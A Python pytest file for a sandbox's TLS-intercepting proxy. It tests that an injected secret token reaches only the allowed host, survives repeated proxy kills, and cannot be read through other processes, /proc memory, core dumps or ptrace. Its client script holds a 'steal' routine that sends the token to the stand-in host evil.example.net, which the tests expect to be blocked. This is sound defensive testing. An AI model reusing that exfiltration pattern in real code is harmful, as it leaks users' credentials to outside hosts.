# SPDX-License-Identifier: Apache-2.0
"""The tlsproxy process: who else could have a value (nobody), and what its death costs (what it carried)."""

import base64
import ctypes
import json
import os
import random
import shutil
import signal
import stat
import subprocess
import time

import pytest
from conftest import SLACK, masked, sanitized, wait_for
from test_isolation import name_of
from test_reload import Live
from test_secrets import descendants, secret

# A rule about requests, so that those without TLS are read as well.
OPEN = {"default_egress": "allow", "rules": [
    {"id": "shut", "action": "deny", "destination": "api.example.com", "http": {"paths": ["/shut"]}}]}

# Asks until it is told to stop; what each answer was, by kind.
CLIENT = """
import collections, http.client, json, os, ssl, sys, threading
key, stop, seen = os.environ['LAB_TOKEN'], threading.Event(), collections.Counter()
def one(c, path='/x'):
    c.request('GET', path, None, {'Authorization': 'Bearer ' + key})
    r = c.getresponse()
    text = r.read()
    return 'ok' if r.status == 200 and b'"authorized": true' in text else 'http %d' % r.status
def fresh():
    return http.client.HTTPSConnection('api.example.com', timeout=60)
def work():
    c = fresh()
    while not stop.wait(0.005):
        try:
            seen[one(c)] += 1
        except Exception as e:
            seen[type(e).__name__] += 1
            c.close()
            c = fresh()
def plain():
    c = http.client.HTTPConnection('api.example.com', timeout=60)
    while not stop.wait(0.01):
        try:
            c.request('GET', '/shut' if seen['plain 200'] % 3 else '/y')
            r = c.getresponse()
            r.read()
            seen['plain %d' % r.status] += 1
        except Exception as e:
            seen['plain ' + type(e).__name__] += 1
            c.close()
            c = http.client.HTTPConnection('api.example.com', timeout=60)
def steal():
    while not stop.wait(0.02):
        try:
            c = http.client.HTTPSConnection('evil.example.net', timeout=60)
            c.request('GET', '/' + key, None, {'X': key})
            seen['evil %d' % c.getresponse().status] += 1
        except Exception as e:
            seen['evil ' + type(e).__name__] += 1
threads = [threading.Thread(target=f) for f in (work, work, work, plain, steal)]
for t in threads: t.start()
print('ready', flush=True)
sys.stdin.readline()
stop.set()
for t in threads: t.join()
print(json.dumps({'seen': seen, 'after': [one(fresh()) for _ in range(5)]}), flush=True)
"""


def helper(root, name):
    pids = [p for p in descendants(root) if name_of(p) == name]
    return pids[0] if pids else None


def tlsproxy(root):
    """Its pid, or None while there is none that has given up its rights."""
    return helper(root, "weir-tlsproxy")


def config(weir, restarts):
    return ["--config", weir.file("c.json", {
        "policy": OPEN, "limits": {"tlsproxy_restarts": restarts}, "secrets": [
            {"env": "LAB_TOKEN", "hosts": ["api.example.com"], "at": ["header"]}]})]


def run_events(p, *names):
    if not os.path.exists(p.audit_path):
        return []
    with open(p.audit_path, encoding="utf-8") as f:
        return [e for e in map(json.loads, (x for x in f if x.endswith("}\n"))) if e["kind"] == "run" and e["event"] in names]


def kill(p):
    """Kills it and says when the next one serves."""
    n = len(run_events(p, "tlsproxy_started"))
    pid = tlsproxy(p.pid)
    os.kill(pid, signal.SIGKILL)
    assert wait_for(lambda: len(run_events(p, "tlsproxy_started")) > n, 20), run_events(
        p, "failed", "tlsproxy_died")
    assert tlsproxy(p.pid) != pid


def answered(p):
    """How many requests over TLS."""
    with open(p.audit_path, encoding="utf-8") as f:
        return sum('"kind":"http"' in x and '"tls":true,"status":200' in x for x in f)


@pytest.mark.slow
def test_killed_again_and_again_under_traffic(weir, lab):
    p = weir.start("/usr/bin/python3", "-c", CLIENT, policy=None, flags=config(weir, 1000),
                   stdin=subprocess.PIPE)
    assert p.stdout.readline() == b"ready\n", p.stderr.read()
    # Without KVM no client would come through from one to the next: there they are waited for.
    kills, between = (50, 0) if weir.backend == "netns" else (10, 3)
    for _ in range(kills):
        n = answered(p) + between
        assert wait_for(lambda: answered(p) >= n, 20)
        time.sleep(random.uniform(0, 0.15))
        kill(p)
    out, err = p.communicate(b"\n", timeout=120 * SLACK)
    report = json.loads(out.splitlines()[-1])
    assert p.returncode == 0, err
    assert report["after"] == ["ok"] * 5, report
    # Nothing was anything but right, or cut. (What a reset is to Python inside TLS depends on when
    # it comes; without TLS it is one, and the end of a stream would be something else.)
    seen = {k for k in report["seen"] if not k.startswith("plain")}
    assert seen <= {"ok", "evil 403"} | {who + what for who in ("", "evil ") for what in (
        "ConnectionResetError", "SSLEOFError", "RemoteDisconnected", "IncompleteRead")}, report
    assert set(report["seen"]) - seen <= {"plain 200", "plain 403",
                                          "plain ConnectionResetError"}, report
    assert report["seen"]["ok"] > kills and report["seen"]["evil 403"] > kills / 5, report
    # Whatever reached a server had been read: the value where it may go, no placeholder anywhere.
    api = [e for e in lab.seen("http", server="api.example.com") if "GET /y " not in e["head"]]
    assert api and all(lab.token in e["head"] for e in api), [
        e for e in api if lab.token not in e["head"]][:3]
    assert not lab.seen("http", server="evil.example.net")
    died, started = run_events(p, "tlsproxy_died"), run_events(p, "tlsproxy_started")
    assert len(died) == kills and [e["restarts"] for e in started] == list(range(1, kills + 1))
    assert all("signal 9" in e["detail"] for e in died), died
    assert weir.call("audit", p.audit_path).returncode == 0
    with open(p.audit_path, encoding="utf-8") as f:
        events = [json.loads(line) for line in f]
    assert [e for e in events if e["kind"] == "flow_end" and "tlsproxy died" in e.get("detail", "")]
    denials = [e["denial"] for e in events if e["kind"] == "http" and e.get("denial")]
    assert len(denials) == len(set(denials))


def test_the_end_of_the_command_is_no_death(weir):
    """Flows under way when the command ends: the tlsproxy was told to stop, and the record says so."""
    p = weir.start("sh", "-c", "for i in 1 2 3 4; do curl -sS -o /dev/null "
                   "'https://slow.example.com/delay?ms=30000' & done; sleep 2; echo; read x",
                   policy=OPEN, intercept=True, stdin=subprocess.PIPE)
    assert p.stdout.readline() == b"\n", p.stderr.read()
    # Busy elsewhere: it hears of both ends at once.
    gateway = helper(p.pid, "weir-gateway")
    os.kill(gateway, signal.SIGSTOP)
    p.stdin.write(b"\n")
    p.stdin.flush()
    wait_for(lambda: helper(p.pid, "weir-tlsproxy") is None, 3)
    os.kill(gateway, signal.SIGCONT)
    p.communicate(timeout=20 * SLACK)
    with open(p.audit_path, encoding="utf-8") as f:
        ends = [e for e in map(json.loads, f) if e["kind"] == "flow_end" and e["ms"] > 1000]
    assert len(ends) == 4 and not [e for e in ends if "died" in e.get("detail", "")], ends


def test_a_cut_reply_is_reset_and_not_ended(weir):
    """A reply without a length ends with its connection: nobody may take a part of it for the whole."""
    code = ("import socket\n"
            "s = socket.create_connection(('slow.example.com', 80))\n"
            "s.sendall(b'GET /drip?n=4000&ms=20 HTTP/1.1\\r\\nHost: slow.example.com\\r\\n\\r\\n')\n"
            "print('ready', len(s.recv(10)) > 0, flush=True)\n"
            "try:\n"
            "    while s.recv(65536): pass\n"
            "    print('ended')\n"
            "except OSError as e: print(type(e).__name__)\n")
    p = weir.start("/usr/bin/python3", "-c", code, flags=secret(), policy={"policy": {
        "default_egress": "allow", "rules": [{"action": "deny", "destination": "slow.example.com",
                                              "http": {"paths": ["/shut"]}}]}})
    assert p.stdout.readline() == b"ready True\n"
    kill(p)
    assert p.communicate(timeout=20 * SLACK)[0] == b"ConnectionResetError\n"


def test_dies_too_often(weir):
    p = weir.start("sleep", "60", policy=None, flags=config(weir, 2))
    assert wait_for(lambda: tlsproxy(p.pid) and run_events(p, "begin"))
    kill(p)
    kill(p)
    os.kill(tlsproxy(p.pid), signal.SIGKILL)
    err = p.communicate(timeout=20 * SLACK)[1].decode()
    assert p.returncode == 125 and "died 3 times within a minute" in err, err
    assert run_events(p, "failed")


def test_the_successor_has_the_policy_of_now(weir, lab):
    box = Live(weir, "/usr/bin/python3", "-c",
               "import subprocess, sys\n"
               "for host in sys.stdin:\n"
               "    print(subprocess.run(['curl', '-sS', '-o', '/dev/null', '-w', '%{http_code}',\n"
               "        'https://%s/' % host.strip()], capture_output=True, text=True).stdout, flush=True)",
               name="successor", policy={"policy": OPEN}, flags=secret(), stdin=subprocess.PIPE)

    def ask(host):
        box.p.stdin.write(host.encode() + b"\n")
        box.p.stdin.flush()
        return box.p.stdout.readline().strip()

    try:
        assert ask("files.example.com") == b"200"
        assert box.set({"policy": {"default_egress": "allow", "rules": [
            {"id": "shut", "action": "deny", "destination": "files.example.com",
             "http": {"methods": ["GET"]}}]}}).returncode == 0
        assert ask("files.example.com") == b"403"
        kill(box.p)
        assert ask("files.example.com") == b"403"
        assert ask("api.example.com") == b"200"
        denied = [e for e in box.events("http", verdict="deny") if e["rule"] == "shut"]
        assert [e["generation"] for e in denied] == [2, 2], denied
        # Another policy reaches the successor.
        assert box.set({"policy": OPEN}).returncode == 0
        assert ask("files.example.com") == b"200"
    finally:
        box.end()


def forms(value):
    raw = value.encode()
    yield from (raw, base64.b64encode(raw).rstrip(b"=")[:-1], raw.hex().encode(),
                raw.hex().upper().encode())


def scan(lab, needle):
    out = subprocess.run(["/usr/bin/python3", lab.guest, "scan", masked(needle)],
                         capture_output=True, text=True, check=True).stdout
    return json.loads(out)["found"]


def readable_through(pid, needle):
    """Descriptors of the process through which the bytes can be read."""
    found = []
    for fd in os.listdir("/proc/%d/fd" % pid):
        path = "/proc/%d/fd/%s" % (pid, fd)
        try:
            if not stat.S_ISREG(os.stat(path).st_mode):
                continue
            with open(path, "rb") as f:
                if needle in f.read(64 << 20):
                    found.append("%s %s" % (fd, os.readlink(path)))
        except OSError:
            continue
    return found


# Parity: weak-21.
def test_no_other_process_has_it_in_any_form(weir, lab):
    if sanitized():
        pytest.skip("a sanitizer's runtime keeps its own copy of the environment")
    path = weir.file("token", lab.token + "\n")
    p = weir.start("/usr/bin/python3", "-c", CLIENT, flags=[
        "--name", "scanned", "--secret-file", "LAB_TOKEN=%s@api.example.com" % path],
        stdin=subprocess.PIPE, env={"LAB_TOKEN": ""})
    try:
        assert p.stdout.readline() == b"ready\n", p.stderr.read()
        for after_death in (False, True):
            if after_death:
                kill(p)
            mine, own = set(descendants(p.pid)), tlsproxy(p.pid)
            for form in forms(lab.token):
                holders = {int(f.split()[0]) for f in scan(lab, form.decode())} & mine
                assert holders <= {own}, (form, holders, [name_of(h) for h in holders])
                for pid in mine - {own}:
                    assert readable_through(pid, form) == [], (pid, name_of(pid))
            assert own in {int(f.split()[0]) for f in scan(lab, lab.token)}, "the scan finds nothing"
    finally:
        p.communicate(b"\n", timeout=60 * SLACK)


@pytest.mark.user
@pytest.mark.netns("run by another user, who has no image of a machine")
def test_little_memory_to_lock_is_enough_and_none_is_said(weir, lab):
    script = 'curl -sS -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $LAB_TOKEN" https://api.example.com/'
    user = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "env", "HOME=" + weir.tmp]
    weir.prefix = ["prlimit", "--memlock=65536:65536", *(weir.prefix or user)]
    weir.program = shutil.copy(weir.program, weir.tmp)
    os.chmod(weir.tmp, 0o777)
    r = weir.sh(script, flags=secret())
    assert r.out == "200", r
    if sanitized():
        return  # its mlock() locks nothing, so there is never too little
    weir.prefix[1] = "--memlock=4096:4096"
    r = weir.sh(script, flags=secret())
    assert r.rc == 125 and "ulimit -l" in r.err, r


PTRACE_ATTACH = 16


def test_no_dump_and_no_debugger(weir):
    p = weir.start("sleep", "30", flags=secret(), policy={"policy": OPEN})
    try:
        pid = wait_for(lambda: run_events(p, "begin") and tlsproxy(p.pid))
        with open("/proc/%d/limits" % pid, encoding="utf-8") as f:
            assert "Max core file size 0 0" in " ".join(f.read().split())
        # Not dumpable: what it is in /proc belongs to root, whoever it runs as.
        assert os.stat("/proc/%d/mem" % pid).st_uid == 0
        with open("/proc/%d/status" % pid, encoding="utf-8") as f:
            uid = int(f.read().split("Uid:")[1].split()[0])
        child = os.fork()
        if child == 0:
            if uid:
                os.setgroups([])
                os.setresgid(uid, uid, uid)
                os.setresuid(uid, uid, uid)
            else:
                os._exit(0)
            libc = ctypes.CDLL(None, use_errno=True)
            bad = libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0
            try:
                with open("/proc/%d/mem" % pid, "rb"):
                    bad = True
            except OSError:
                pass
            os._exit(1 if bad else 0)
        assert os.waitpid(child, 0)[1] == 0
        # A crash writes nothing. (SIGSEGV is the sanitizers' own.)
        before = set(os.listdir(weir.tmp))
        os.kill(pid, signal.SIGABRT)
        assert wait_for(lambda: run_events(p, "tlsproxy_died"))
        assert "signal 6" in run_events(p, "tlsproxy_died")[0]["detail"]
        assert "core" not in " ".join(set(os.listdir(weir.tmp)) - before)
    finally:
        p.terminate()
        p.wait(10 * SLACK)
